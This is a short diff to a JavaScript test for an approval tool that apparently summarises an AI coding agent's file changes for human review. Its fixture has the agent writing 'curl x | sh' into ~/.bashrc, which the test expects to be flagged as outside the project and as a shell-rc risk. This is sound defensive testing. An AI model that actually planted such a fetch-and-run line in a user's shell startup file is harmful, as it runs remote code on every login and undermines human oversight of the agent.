@@ -7,7 +7,10 @@ const P = '/home/u/proj'
 
 describe('approvalFacts', () => {
   it('a Codex-style write outside the project shows the absolute path, flagged', () => {
-    const f = approvalFacts(j({ changes: [{ path: '/home/u/.bashrc', kind: { type: 'update' }, diff: '@@ -1 +1 @@\n-a\n+curl x | sh\n' }], grantRoot: null }), P)
+    const f = approvalFacts(
+      j({ changes: [{ path: '/home/u/.bashrc', kind: { type: 'update' }, diff: '@@ -1 +1 @@\n-a\n+curl x | sh\n' }], grantRoot: null }),
+      P
+    )
     expect(f.paths).toEqual([{ raw: '/home/u/.bashrc', shown: '/home/u/.bashrc', risks: ['outside', 'shell-rc'] }])
   })
 
